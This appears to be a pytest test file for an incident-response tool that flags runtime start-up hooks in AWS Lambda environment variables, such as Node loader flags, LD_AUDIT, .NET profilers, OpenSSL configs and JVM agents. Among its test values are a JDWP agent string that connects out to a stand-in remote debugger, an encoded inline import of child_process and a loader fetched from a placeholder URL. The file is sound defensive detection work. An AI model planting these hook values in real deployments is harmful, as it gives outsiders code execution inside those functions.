"""Start-up hook variables read as the runtimes read them (no case: the values alone)."""

from __future__ import annotations

import pytest

from lambda_ir.analyze.hooks import is_hook, load_targets, outside_code, outside_kind

DD_JS = "/opt/nodejs/node_modules/datadog-lambda-js/"


@pytest.mark.parametrize(
    "value",
    [
        # Node treats `_` and `-` alike in an option's name (doc/api/cli.md, "Options").
        "--experimental_loader=./l.mjs",
        "--experimental_loader ./l.mjs",
        # an OpenSSL configuration loads its providers' and engines' native libraries
        "--openssl-config=ssl.cnf",
        "--openssl_config=/var/task/ssl.cnf",
        "--import=data:text/javascript,console.log(1)",
    ],
)
def test_every_node_loading_flag_in_any_spelling_is_a_hook(value: str) -> None:
    assert is_hook("NODE_OPTIONS", value)


def test_node_options_that_load_nothing_are_no_hook() -> None:
    for value in ("--max_old_space_size=512", "--enable-source-maps --no_warnings"):
        assert not is_hook("NODE_OPTIONS", value)


def test_every_argument_of_a_loading_flag_is_a_target_slash_or_not() -> None:
    value = f"--require {DD_JS} --experimental_loader evil --openssl-config=ssl.cnf"
    assert load_targets("NODE_OPTIONS", value) == (DD_JS, "evil", "ssl.cnf")
    # what follows an option's `=` is its value, kept as written
    assert load_targets("NODE_OPTIONS", "--require=/opt/my_dir/x.js") == ("/opt/my_dir/x.js",)


def test_a_data_or_network_url_target_is_code_from_no_file() -> None:
    inline = "data:text/javascript;base64,aW1wb3J0KCdjaGlsZF9wcm9jZXNzJyk="
    value = f"--require {DD_JS} --import={inline} --experimental_loader https://x.example/l.mjs"
    assert outside_code("NODE_OPTIONS", value) == (inline, "https://x.example/l.mjs")
    assert outside_code("NODE_OPTIONS", f"--require {DD_JS}") == ()


@pytest.mark.parametrize(
    ("name", "value"),
    [
        # glibc's loader runs an audit library in every process, whatever its path (ld.so(8))
        ("LD_AUDIT", "/opt/lib/libaudit.so"),
        ("LD_AUDIT", "/var/task/lib/libaudit.so"),
        # the .NET runtime's profiler: the generic path and Lambda's two architectures'
        ("CORECLR_PROFILER_PATH", "/var/task/profiler.so"),
        ("CORECLR_PROFILER_PATH_64", "/opt/p.so"),
        ("CORECLR_PROFILER_PATH_ARM64", "/opt/p.so"),
        # an OpenSSL configuration in a layer or scratch: its providers load on `import ssl`
        ("OPENSSL_CONF", "/opt/ssl/openssl.cnf"),
        ("OPENSSL_CONF", "/tmp/openssl.cnf"),
    ],
)
def test_native_loaders_are_hooks(name: str, value: str) -> None:
    assert is_hook(name, value)


def test_an_openssl_configuration_in_the_functions_own_code_is_no_hook() -> None:
    # as PYTHONPATH: the function's own folder is where its configuration lives
    assert not is_hook("OPENSSL_CONF", "/var/task/openssl.cnf")


def test_a_profiler_path_is_its_own_target() -> None:
    assert load_targets("CORECLR_PROFILER_PATH", " /opt/p.so ") == ("/opt/p.so",)


JDWP_OUT = "-agentlib:jdwp=transport=dt_socket,server=n,address=203.0.113.9:8000"


@pytest.mark.parametrize(
    "value",
    [
        # a native agent by path or by name, and the legacy -Xrun form (JDK 17 and 25 run it)
        "-agentpath:/var/task/lib/libagent.so",
        "-XX:+UseSerialGC -agentlib:hprof=cpu=samples",
        JDWP_OUT,
        "-Xrunjdwp:transport=dt_socket,address=203.0.113.9:8000",
    ],
)
def test_every_jvm_agent_option_is_a_hook(value: str) -> None:
    for name in ("JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS"):
        assert is_hook(name, value)


def test_jvm_options_that_load_nothing_are_no_hook() -> None:
    assert not is_hook("JAVA_TOOL_OPTIONS", "-XX:+TieredCompilation -XX:TieredStopAtLevel=1")


def test_a_jvm_agent_is_its_jar_library_or_name() -> None:
    value = f"-javaagent:/opt/a.jar=x -agentpath:/opt/b.so=y {JDWP_OUT} -Xrunhprof:cpu=times"
    assert load_targets("JAVA_TOOL_OPTIONS", value) == ("/opt/a.jar", "/opt/b.so", "jdwp", "hprof")


def test_a_jdwp_agent_that_connects_out_is_code_from_no_file() -> None:
    # JDWP's `server` defaults to n: the JVM dials its debugger, who then runs what it likes
    legacy = "-Xrunjdwp:transport=dt_socket,address=203.0.113.9:8000"
    assert outside_code("JAVA_TOOL_OPTIONS", f"{JDWP_OUT} {legacy}") == (JDWP_OUT, legacy)
    assert "connecting out to 203.0.113.9:8000" in outside_kind(JDWP_OUT)
    listening = "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=5005"
    assert outside_code("JAVA_TOOL_OPTIONS", listening) == ()


def test_a_user_base_in_a_layer_or_scratch_is_a_hook() -> None:
    # CPython runs the `.pth` files and `usercustomize` of <PYTHONUSERBASE>/lib/pythonX.Y/…
    assert is_hook("PYTHONUSERBASE", "/opt/python")
    assert is_hook("PYTHONUSERBASE", "/tmp/u")
    assert not is_hook("PYTHONUSERBASE", "/var/task/vendor")
